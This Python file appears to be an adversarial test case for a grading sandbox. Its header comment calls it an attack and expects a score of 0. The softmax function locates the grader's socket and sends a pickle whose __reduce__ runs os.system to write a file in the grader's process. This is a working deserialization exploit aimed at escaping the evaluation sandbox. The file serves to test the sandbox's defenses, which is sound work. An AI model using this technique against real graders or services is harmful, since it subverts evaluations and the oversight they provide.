# attack: gained: sends a pickle that would write a file in the grader's process; expect: softmax malformed, log_softmax malformed, score 0
import numpy as np
import os
import stat
import sys

import msgspec

wire = sys.modules["gradekit.sandbox.wire"]


def connection():
    """The descriptor that leads to the grader."""
    for descriptor in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                return descriptor
        except OSError:
            pass
    return -1


def number():
    """The number of the request that is being answered."""
    frame = sys._getframe()
    while frame is not None:
        if isinstance(frame.f_locals.get("number"), int):
            return frame.f_locals["number"]
        frame = frame.f_back
    return 0


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/kit_attack_pickle",)


def forge():
    import pickle

    pieces = wire.encode("value", number(), (Payload(), ""), opaque=pickle.dumps)
    os.write(connection(), b"".join(map(bytes, pieces)))


def softmax(x, axis=-1):
    forge()
    return np.zeros(np.shape(x))


log_softmax = softmax
